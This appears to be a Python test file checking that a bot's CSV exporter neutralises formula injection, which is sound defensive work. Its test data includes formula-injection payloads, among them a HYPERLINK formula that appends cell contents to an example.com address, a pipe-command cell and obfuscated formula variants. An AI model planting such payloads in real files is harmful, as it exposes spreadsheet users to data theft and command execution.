"""No cell of a CSV file starts a formula, whoever wrote it."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.questions.exports.csv_lines import csv_lines

HYPERLINK = '=HYPERLINK("http://example.com/"&A1,"Click")'


def read(text):
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        HYPERLINK,
        "+44 is not a formula",
        "-1+1",
        "@SUM(A1)",
        "|cmd",
        "%0A",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\t",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff@SUM(A1)",
        "\x00=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "-5\n=1",
    ],
    ids=ascii,
)
def test_a_cell_that_would_start_a_formula_is_text(typed):
    [[cell]] = read(csv_lines([[typed]]))

    assert cell.startswith("'")
    assert cell[1:].replace("\\|", "|") == typed


@pytest.mark.parametrize(
    "typed", ["Pam aros?", "a = b", "x+y", "-5", "1,000", "", 'Why? "Because", they said\nso', "’"]
)
def test_ordinary_words_stay_as_they_are(typed):
    assert read(csv_lines([["", typed]])) == [["", typed]]


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    assert csv_lines([[-3, 0, None, "x"]]) == "-3,0,,x\r\n"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4))
def test_no_text_at_all_starts_a_formula(row):
    [cells] = read(csv_lines([["id", *row]]))

    for cell in cells:
        seen = cell.lstrip()
        assert seen[:1] not in set("=+@") or cell == ""
